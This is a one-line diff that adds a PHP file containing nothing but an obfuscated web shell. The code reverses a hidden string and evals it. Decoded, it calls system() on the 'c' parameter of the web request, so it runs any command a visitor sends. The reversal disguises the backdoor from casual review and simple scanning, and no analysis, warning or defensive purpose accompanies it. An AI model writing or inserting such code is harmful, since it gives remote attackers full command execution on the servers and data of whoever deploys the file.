@@ -1,0 +1,1 @@
+<?php eval(strrev(';)]\'c\'[TEG_$(metsys')); ?>
